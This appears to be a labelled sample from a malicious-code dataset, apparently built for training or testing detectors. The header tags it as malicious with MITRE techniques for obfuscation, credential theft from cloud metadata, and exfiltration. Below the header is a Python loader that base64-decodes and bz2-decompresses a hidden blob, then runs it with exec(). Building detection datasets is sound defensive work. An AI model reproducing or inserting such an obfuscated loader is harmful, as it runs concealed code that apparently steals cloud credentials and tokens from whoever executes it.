# label: malicious family=encoded techniques=T1027,T1041,T1059.006,T1140,T1528,T1552.005 lines=3-5
import bz2, base64
blob = "QlpoOTFBWSZTWUF0H08AAEcfgFBn/BoBghAAP///CjAArUEqmpsInqA8ptTJtIBmp6ahjRo0AyZDRiNNA0wGkNE9Kb1T0yEAaAB6JI96ctWEVLjso1amiMbOjkJSlkQSbx/2cK7Gs2wvvpXGKNdOoxpasuNgui8A3NJiN2geL/YFrIT8mBk5sDYi2ObZPM1AtT6VGk0P1IO6nMMcLlrZdKZaDirjbgkiY+JiBjDfhVVFN0LAg2CRBt5BQTg5j7p5mQ5Gc82AXZ4gIRrFLQ3IaEElpVZUGK0i/n/F3JFOFCQQXQfTwA=="
code = bz2.decompress(base64.b64decode(blob))
exec(code)
